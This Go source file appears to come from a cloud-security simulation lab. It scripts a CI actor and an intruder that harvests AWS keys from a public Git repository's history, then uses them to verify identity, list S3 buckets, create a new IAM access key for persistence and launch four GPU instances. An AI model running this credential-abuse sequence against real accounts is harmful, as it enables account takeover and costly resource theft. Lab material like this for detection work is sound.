package actors

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/sakimori/sakimori/sim/labkit"

	"github.com/sakimori/sakimori/sim/aws/client"
)

// Keys in the Repo's traffic: the CI system using its deploy key as it
// should, and an intruder who scrapes the public repository's history for
// keys (EleKtra-Leak found them within minutes) and uses the one it finds.
func init() {
	labkit.RegisterScript("leak-ci", leakCI)
	labkit.RegisterScript("leak-intruder", leakIntruder)
}

// leakCI uploads a build every minute with the CI key from its own address.
func leakCI(ctx context.Context, env labkit.Env) error {
	c := &client.Client{Endpoint: env("CLOUD"), UserAgent: "aws-cli/2.15.30 Python/3.11.8 Linux/5.15.0-1057-aws exe/x86_64.ubuntu.22 command/s3.cp",
		Creds: &client.Credentials{AccessKeyID: env("AWS_ACCESS_KEY_ID"), SecretAccessKey: env("AWS_SECRET_ACCESS_KEY")}}
	for n := 1; labkit.Sleep(ctx, time.Minute); n++ {
		body := []byte(fmt.Sprintf("build %d of acme-web\n", n))
		if res, err := c.S3("PUT", fmt.Sprintf("/acme-build-artifacts/builds/acme-web-%04d.tar.gz", n), body); err != nil || !res.OK() {
			labkit.Logger.Info("ci: upload failed", "result", res.String(), "err", err)
		}
	}
	return nil
}

func leakIntruder(ctx context.Context, env labkit.Env) error {
	labkit.Intrude(ctx, labkit.Duration(env, "DELAY", 5*time.Second), 15*time.Minute, func() error {
		return leakOnce(env)
	})
	return nil
}

func leakOnce(env labkit.Env) error {
	hc := &http.Client{Timeout: 10 * time.Second}
	repo := env("GIT") + env("REPO")
	refs, err := fetchText(hc, repo+"/info/refs")
	if err != nil {
		return err
	}
	head, _, _ := strings.Cut(refs, "\t")
	creds, err := client.KeysInHistory(head, func(path string) ([]byte, error) {
		b, err := fetchText(hc, repo+"/"+path)
		return []byte(b), err
	})
	if err != nil {
		return err
	}
	c := &client.Client{Endpoint: env("CLOUD"), Creds: creds, UserAgent: "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.1.0 lang/python#3.11.2"}
	if _, err := c.Query("sts", "GetCallerIdentity", nil); err != nil {
		return err
	}
	_, _ = c.S3("GET", "/", nil)
	_, _ = c.S3("GET", "/acme-build-artifacts?list-type=2", nil)
	_, _ = c.Query("iam", "CreateAccessKey", url.Values{"UserName": {"ci-deployer"}})
	_, err = c.Query("ec2", "RunInstances", url.Values{"ImageId": {"ami-0b4c7e2f9d1a3e5c7"}, "InstanceType": {"p3.16xlarge"},
		"MinCount": {"4"}, "MaxCount": {"4"}})
	return err
}

func fetchText(hc *http.Client, u string) (string, error) {
	resp, err := hc.Get(u)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return "", fmt.Errorf("%s: %s", u, resp.Status)
	}
	b, err := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	return string(b), err
}
